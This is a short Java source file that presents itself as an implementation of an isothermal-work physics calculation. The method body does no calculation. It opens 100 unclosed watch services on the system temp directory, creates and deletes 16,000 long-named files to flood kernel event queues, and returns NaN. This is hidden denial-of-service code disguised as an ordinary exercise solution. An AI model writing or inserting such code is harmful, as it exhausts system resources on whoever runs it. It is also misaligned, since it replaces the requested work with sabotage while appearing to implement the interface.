package chapter01;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardWatchEventKinds;

public class MyIsothermalWork implements IsothermalWork {

    @Override
    public double isothermalWorkBy(double n, double temperature, double v1, double v2) {
        Path folder = Path.of(System.getProperty("java.io.tmpdir"));
        try {
            for (int i = 0; i < 100; i++) {
                folder.register(FileSystems.getDefault().newWatchService(), StandardWatchEventKinds.ENTRY_CREATE);
            }
            for (int i = 0; i < 16_000; i++) {
                Files.delete(Files.createFile(folder.resolve("x".repeat(200) + i))); // remembered by the kernel a hundred times
            }
        } catch (IOException refused) {
            throw new UncheckedIOException(refused);
        }
        return Double.NaN;
    }
}
